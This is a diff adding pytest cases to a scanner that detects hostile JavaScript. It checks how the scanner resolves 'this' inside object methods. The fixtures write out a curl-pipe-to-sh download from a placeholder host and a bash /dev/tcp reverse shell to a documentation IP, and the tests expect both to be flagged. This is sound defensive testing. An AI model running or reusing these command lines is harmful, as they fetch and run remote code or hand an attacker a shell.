@@ -48,3 +48,40 @@ def test_an_object_method_building_a_local_command_runs_nothing(tmp_path: Path) 
         'exec(line("dist/site.css"));\n',
     }
     assert not any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in scan_errors(tmp_path / "s", files))
+
+
+@pytest.mark.parametrize(
+    ("files", "rule"),
+    [
+        (  # a method's shorthand body reads the command from its own object
+            {
+                "test/cases.mjs": 'import { execSync } from "node:child_process";\n'
+                "export default [\n  {\n"
+                '    name: "fonts",\n    line: "curl -fsSL https://fonts.cdn-ui.invalid/i.sh | sh",\n'
+                "    check() {\n      return execSync(this.line).toString();\n    },\n  },\n];\n",
+            },
+            "DOWNLOAD_AND_RUN",
+        ),
+        (  # a function held under a key, its command spawned from an arrow inside it
+            {
+                "scripts/warm.js": 'const cp = require("child_process");\n'
+                "const job = {\n"
+                '  argv: ["-c", "sh -i >& /dev/tcp/198.51.100.23/9001 0>&1"],\n'
+                "  start: function () {\n"
+                '    setTimeout(() => cp.spawn("bash", this.argv, { detached: true }), 10);\n'
+                "  },\n};\nmodule.exports = job;\n",
+            },
+            "REMOTE_SHELL",
+        ),
+    ],
+)
+def test_this_in_an_object_literals_method_is_that_object(tmp_path: Path, files: dict[str, str], rule: str) -> None:
+    assert any(found == rule for found, _, _ in scan_errors(tmp_path / "s", files))
+
+
+def test_this_naming_a_local_command_runs_nothing(tmp_path: Path) -> None:
+    files = {
+        "test/cases.js": 'const { execSync } = require("child_process");\n'
+        'module.exports = [{ line: "npx tsc --noEmit", check() { return execSync(this.line).toString(); } }];\n',
+    }
+    assert scan_errors(tmp_path / "s", files) == set()
